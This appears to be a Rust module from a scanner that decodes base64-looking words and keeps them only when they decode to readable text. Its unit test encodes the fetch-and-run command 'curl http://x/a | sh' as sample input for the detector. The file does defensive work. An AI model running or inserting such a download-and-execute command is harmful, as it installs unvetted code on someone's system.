//! Text hidden in base64 (RFC 4648, 4), read back as far as it is text.

use crate::limits::MAX_DECODED_BYTES;

/// Shortest word that is taken for an encoded text.
const MIN_BASE64_CHARS: usize = 16;

/// The text that a word encodes; `None` when it encodes none.
pub(super) fn base64_text(word: &str) -> Option<String> {
    let letters = word.trim_end_matches('=');
    if letters.len() < MIN_BASE64_CHARS || letters.len() / 4 * 3 > MAX_DECODED_BYTES {
        return None;
    }
    let mut bytes = Vec::with_capacity(letters.len() / 4 * 3 + 3);
    let (mut bits, mut held) = (0_u32, 0_u32);
    for letter in letters.bytes() {
        bits = bits << 6 | sextet(letter)?;
        held += 6;
        if held >= 8 {
            held -= 8;
            bytes.push(u8::try_from(bits >> held & 0xff).ok()?);
            bits &= (1 << held) - 1;
        }
    }
    let text = String::from_utf8(bytes).ok()?;
    let readable = text.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'));
    readable.then_some(text)
}

fn sextet(letter: u8) -> Option<u32> {
    Some(u32::from(match letter {
        b'A'..=b'Z' => letter - b'A',
        b'a'..=b'z' => letter - b'a' + 26,
        b'0'..=b'9' => letter - b'0' + 52,
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_text_only() {
        let cases = [
            ("Y3VybCBodHRwOi8veC9hIHwgc2g=", Some("curl http://x/a | sh")),
            ("Y3VybCBodHRwOi8veC9hIHwgc2gK", Some("curl http://x/a | sh\n")),
            ("AAAAAAAAAAAAAAAAAAAAAAAA", None),
            ("short", None),
            ("not base64 at all, surely", None),
        ];
        for (word, expect) in cases {
            assert_eq!(base64_text(word).as_deref(), expect, "{word}");
        }
    }
}
